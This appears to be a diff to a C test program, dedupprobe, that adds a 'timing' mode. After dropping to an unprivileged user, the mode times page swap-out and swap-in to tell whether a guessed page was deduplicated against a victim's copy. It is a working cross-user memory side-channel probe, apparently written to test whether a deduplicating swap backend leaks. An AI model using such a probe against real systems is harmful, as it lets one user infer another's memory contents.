@@ -18,6 +18,19 @@
  *   dedupprobe attacker PAGES SEED STATS
  *       "DEDUPPROBE attacker right_moved=R wrong_moved=W swapped=S guesses=G"
  *       (R of PAGES right guesses moved the counter, W of PAGES wrong ones).
+ *   dedupprobe timing PAGES SEED UID ROUNDS
+ *       the attacker without the statistics: drops to user UID (it cannot
+ *       read them), then ROUNDS times, for each page, swaps out a right and
+ *       a wrong guess and times each one's swap-out (MADV_PAGEOUT) and
+ *       swap-in (the first read after it). A right guess that joins the
+ *       victim's copy skips compression, so its swap-out is faster: in each
+ *       (right, wrong) pair it counts which was faster. Every round guesses
+ *       other wrong pages (a page's own compression time would otherwise
+ *       decide its pair in every round alike).
+ *       "DEDUPPROBE timing pairs=N out_right_faster=R in_right_faster=I
+ *        out_median_right=NS out_median_wrong=NS in_median_right=NS
+ *        in_median_wrong=NS swapped=S"
+ *       (with no signal R and I are about N/2).
  *   dedupprobe read-as UID FILE
  *       drop to user UID and try to read FILE: prints "refused" or "allowed"
  *       (the backend's statistics must be root's alone).
@@ -32,6 +45,7 @@
 #include <string.h>
 #include <sys/mman.h>
 #include <sys/stat.h>
+#include <time.h>
 #include <unistd.h>
 
 #ifndef MADV_PAGEOUT
@@ -180,6 +194,89 @@ static int attacker(long pages, uint64_t seed, const char *stats)
 	return 0;
 }
 
+static uint64_t now_ns(void)
+{
+	struct timespec t;
+
+	clock_gettime(CLOCK_MONOTONIC, &t);
+	return (uint64_t)t.tv_sec * 1000000000ULL + (uint64_t)t.tv_nsec;
+}
+
+/* Swap out one page of (seed, index), then read it back: the time of each
+ * (ns), and whether it left memory. */
+static int timed_guess(uint64_t seed, long index, uint64_t *out_ns, uint64_t *in_ns)
+{
+	volatile unsigned char *page = map(1);
+	uint64_t t0, t1, t2;
+	int gone;
+
+	fill((unsigned char *)page, seed, index);
+	t0 = now_ns();
+	madvise((void *)page, PAGE, MADV_PAGEOUT);
+	t1 = now_ns();
+	gone = swapped((void *)page);
+	(void)page[PAGE / 2];
+	t2 = now_ns();
+	munmap((void *)page, PAGE);
+	*out_ns = t1 - t0;
+	*in_ns = t2 - t1;
+	return gone;
+}
+
+static int cmp_u64(const void *a, const void *b)
+{
+	uint64_t x = *(const uint64_t *)a, y = *(const uint64_t *)b;
+
+	return x < y ? -1 : x > y;
+}
+
+static uint64_t median(uint64_t *v, long n)
+{
+	qsort(v, n, sizeof(*v), cmp_u64);
+	return n ? v[n / 2] : 0;
+}
+
+static int timing(long pages, uint64_t seed, uid_t uid, long rounds)
+{
+	long n = pages * rounds, k = 0, r, i, out_faster = 0, in_faster = 0, out = 0;
+	uint64_t *times = calloc(4 * n, sizeof(uint64_t));
+	uint64_t *out_right = times, *out_wrong = times + n;
+	uint64_t *in_right = times + 2 * n, *in_wrong = times + 3 * n;
+
+	/* Opened while root: a process that drops to another user is no longer
+	 * dumpable, and its /proc/self files become root's. */
+	swapped(&k);
+	if (!times || setgroups(0, NULL) || setresgid(uid, uid, uid) || setresuid(uid, uid, uid)) {
+		printf("DEDUPPROBE timing FAIL cannot become user %ld\n", (long)uid);
+		return 1;
+	}
+	for (r = 0; r < rounds; r++) {
+		for (i = 0; i < pages; i++, k++) {
+			/* Alternate which goes first, so drift favours neither. */
+			uint64_t wrong = ~seed ^ ((uint64_t)r << 40);
+
+			if ((r + i) & 1) {
+				out += timed_guess(seed, i, &out_right[k], &in_right[k]);
+				out += timed_guess(wrong, i, &out_wrong[k], &in_wrong[k]);
+			} else {
+				out += timed_guess(wrong, i, &out_wrong[k], &in_wrong[k]);
+				out += timed_guess(seed, i, &out_right[k], &in_right[k]);
+			}
+			out_faster += out_right[k] < out_wrong[k];
+			in_faster += in_right[k] < in_wrong[k];
+		}
+	}
+	printf("DEDUPPROBE timing pairs=%ld out_right_faster=%ld in_right_faster=%ld "
+	       "out_median_right=%llu out_median_wrong=%llu in_median_right=%llu "
+	       "in_median_wrong=%llu swapped=%ld\n",
+	       n, out_faster, in_faster,
+	       (unsigned long long)median(out_right, n), (unsigned long long)median(out_wrong, n),
+	       (unsigned long long)median(in_right, n), (unsigned long long)median(in_wrong, n),
+	       out);
+	free(times);
+	return 0;
+}
+
 /* Whether user `uid` may read `path`: "refused" or "allowed". */
 static int read_as(uid_t uid, const char *path)
 {
@@ -214,9 +311,12 @@ int main(int argc, char **argv)
 		return victim(atol(argv[2]), strtoull(argv[3], NULL, 0), argv[4], argv[5]);
 	if (argc == 4 && !strcmp(argv[1], "read-as"))
 		return read_as((uid_t)atol(argv[2]), argv[3]);
+	if (argc == 6 && !strcmp(argv[1], "timing"))
+		return timing(atol(argv[2]), strtoull(argv[3], NULL, 0), (uid_t)atol(argv[4]),
+			      atol(argv[5]));
 	if (argc == 5 && !strcmp(argv[1], "attacker"))
 		return attacker(atol(argv[2]), strtoull(argv[3], NULL, 0), argv[4]);
 	fprintf(stderr, "usage: dedupprobe victim PAGES SEED READY GO | attacker PAGES SEED STATS |"
-		" read-as UID FILE\n");
+		" timing PAGES SEED UID ROUNDS | read-as UID FILE\n");
 	return 2;
 }
